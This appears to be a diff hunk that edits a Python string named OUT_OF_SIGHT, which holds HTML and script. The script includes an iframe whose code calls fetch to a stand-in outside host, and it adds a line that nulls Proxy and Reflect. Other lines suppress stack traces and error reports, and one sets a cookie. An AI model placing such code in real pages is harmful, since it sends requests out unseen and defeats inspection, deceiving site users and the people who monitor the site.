@@ -32,6 +32,7 @@ confirm("sure?");
 OUT_OF_SIGHT = """
 <iframe srcdoc="<script>fetch('https://ads.stranger.example/written', { mode: 'no-cors' })</script>"></iframe>
 <script>
+window.Proxy = window.Reflect = null;
 Error.stackTraceLimit = 0;
 Error.prepareStackTrace = () => { throw new Error("nobody is told"); };
 document.cookie = "by_whom=1";
